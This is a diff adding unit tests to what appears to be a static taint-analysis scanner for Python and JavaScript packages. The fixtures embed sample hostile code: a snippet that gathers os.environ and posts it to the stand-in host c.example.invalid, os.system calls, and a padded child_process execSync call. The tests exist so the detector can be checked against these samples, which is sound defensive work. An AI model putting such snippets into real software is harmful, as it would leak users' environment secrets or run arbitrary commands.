@@ -44,6 +44,25 @@ def test_what_the_rest_of_a_list_carries_is_not_lost() -> None:
     assert sent.has(Taint.ENVIRONMENT)
 
 
+def test_a_list_that_grows_while_it_is_gone_through_ends() -> None:
+    text = (
+        "import os, requests\nfound = [1]\nfor one in found:\n    found.append(os.environ)\n"
+        "    last = one\nrequests.post('https://c.example.invalid', data=last)\n"
+    )
+    program = program_of("wheel", {"sample/__init__.py": text})
+    (sent,) = (one for one in program.flows if one.act is Act.SEND)
+    assert sent.has(Taint.ENVIRONMENT)
+    assert not program.unfinished
+
+
+def test_a_list_that_grows_with_each_act_is_named() -> None:
+    text = (
+        "import os\nfound = ['a']\nfor one in found:\n    found.append('b')\n    os.system(one)\n"
+    )
+    program = program_of("wheel", {"sample/__init__.py": text})
+    assert program.unfinished
+
+
 def test_characters_by_number_may_be_many() -> None:
     code = f"/* {'padding ' * 60} */ require('child_process').execSync('{SAID}')"
     numbers = ",".join(str(ord(one)) for one in code)
